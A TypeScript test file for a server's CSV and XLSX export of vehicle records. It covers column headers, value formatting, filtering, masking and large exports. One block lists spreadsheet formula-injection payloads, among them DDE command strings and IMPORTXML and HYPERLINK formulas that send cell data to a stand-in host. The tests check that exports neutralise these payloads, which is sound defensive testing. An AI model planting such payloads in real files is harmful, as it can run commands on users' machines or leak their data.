import { describe, expect, test } from "vitest";
import type { JsonObject } from "#shared/schema/schema.ts";
import { definitionFolder } from "#tests/support/definitionFolder.ts";
import { idOf } from "#tests/support/providers.ts";
import { openTestServer } from "#tests/support/server.ts";
import { readCsv, readXlsx } from "#tests/support/sheets.ts";
import { vehicleFiles, vehicles } from "#tests/support/vehicles.ts";

const server = await openTestServer({ config: { configDir: definitionFolder(vehicleFiles) } });
const driver = idOf("north", "staff", "first");
await server.insert("vehicles", vehicles(driver));
const admin = await server.as("admin");
const nobody = await server.as("nobody");

/** An export as a table, its header first. */
async function table(order: JsonObject, format: "csv" | "xlsx", resource = "vehicles"): Promise<string[][]> {
  const asked = await admin.post(`records/${resource}/export`, { ...order, format });
  expect(asked.status, asked.text).toBe(200);
  const file = await nobody.get(String(asked.data.link));
  expect(file.status).toBe(200);
  return format === "csv" ? readCsv(file.text) : readXlsx(file.bytes);
}

describe.each(["csv", "xlsx"] as const)("an export as %s", (format) => {
  test("has the list's columns, titled as people see them", async () => {
    const [header, ...rows] = await table({}, format);
    expect(header).toEqual(["Name", "Status", "Driver", "Serviced on", "Bought at", "Price"]);
    expect(rows).toHaveLength(4);
  });

  test("writes values as people read them: choices, references, money, lists, yes and no", async () => {
    const columns = [
      "name",
      "status",
      "driver",
      "price",
      "insured",
      "features",
      "insurer",
      "weight",
      "notes",
    ];
    const rows = await table({ columns, query: { name: "Ákos van" } }, format);
    const [, akos = []] = rows;
    expect(akos[1]).toBe("In use");
    expect(akos[2]).toMatch(/^Willa cny/);
    expect(Number(akos[3])).toBe(45_000);
    expect(akos.slice(4)).toEqual([
      format === "csv" ? "Yes" : expect.stringMatching(/^(Yes|true|1)$/i),
      "Ramp, Hoist",
      "Coastal Cover, +61255501234",
      "1850.5",
      "Smells of lavender",
    ]);
  });

  test("leaves a cell empty where there is no value", async () => {
    const [, row] = await table({ columns: ["vin", "name", "price"], query: { name: "Dolly" } }, format);
    expect(row?.slice(0, 2)).toEqual(["", "Dolly"]);
    expect(row?.[2] ?? "").toBe("");
  });

  test("has the rows of the list as it is filtered, searched and ordered", async () => {
    const names = async (query: JsonObject) =>
      (await table({ columns: ["name"], query }, format)).slice(1).map(([name]) => name);
    expect(await names({ status: "in_use" })).toEqual(["Dolly", "Ákos van"]);
    expect(await names({ search: "bus" })).toEqual(["bus 100%"]);
    expect(await names({ sortField: "seats", sortType: "desc" })).toEqual([
      "Dolly",
      "bus 100%",
      "Ákos van",
      "Car_one",
    ]);
    expect(await names({ filters: [{ field: "seats", operator: ">", value: 7 }] })).toEqual([
      "bus 100%",
      "Ákos van",
    ]);
    expect(await names({ page: 9, limit: 1 })).toHaveLength(4);
  });

  test("keeps masked values masked", async () => {
    const rows = await table(
      { columns: ["name", "fuel_card", "alarm_code"], query: { name: "Ákos van" } },
      format,
    );
    expect(rows[1]).toEqual(["Ákos van", "••••••••••••3333", "•••1"]);
  });
});

describe("a cell that a spreadsheet would take for a formula begins with an apostrophe (G-32)", () => {
  const payloads = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@import",
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    "=1+1;=2",
    '="quoted"',
    "=\u00e9",
  ];
  test.each(payloads)("%j", async (payload) => {
    const [id] = await server.insert("vehicles", [{ name: payload }]);
    for (const format of ["csv", "xlsx"] as const) {
      const query = { filters: [{ field: "uuid", operator: "is", value: id ?? "" }] };
      const rows = await table({ columns: ["name"], query }, format);
      expect(rows[1]).toEqual([`'${payload}`]);
    }
  });

  test("a number that is below zero stays a number", async () => {
    const [, row] = await table({ columns: ["weight"], query: { name: "Car_one" } }, "csv");
    expect(row).toEqual(["1200"]);
  });

  test("commas, quotes and lines stand inside their cell", async () => {
    await server.insert("vehicles", [{ name: 'a, "b"; c' }]);
    const rows = await table({ columns: ["name"], query: { search: "a, " } }, "csv");
    expect(rows.flat()).toContain('a, "b"; c');
  });
});

describe("a long list", () => {
  test("is exported whole and in order, across every batch, with and without values", async () => {
    const many = Array.from({ length: 2600 }, (_, index): JsonObject => ({
      name: `Fleet ${String(index).padStart(4, "0")}`,
      vin: `F-${index}`,
      ...(index % 3 === 0 ? {} : { seats: 1 + ((index * 7) % 60) }),
    }));
    await server.insert("vehicles", many);
    for (const sortType of ["asc", "desc"]) {
      const query = { search: "fleet", sortField: "seats", sortType };
      const rows = (await table({ columns: ["seats", "vin"], query }, "csv")).slice(1);
      expect(new Set(rows.map(([, vin]) => vin)).size).toBe(2600);
      const seats = rows.map(([value]) => (value === "" ? Infinity : Number(value)));
      const sorted = [...seats].sort((a, b) => (sortType === "asc" ? a - b : b - a));
      expect(seats).toEqual(sorted);
    }
    const byName = await table({ columns: ["name"], query: { search: "fleet" } }, "xlsx");
    expect(byName.slice(1).map(([name]) => name)).toEqual(many.map(({ name }) => name));
  });
});
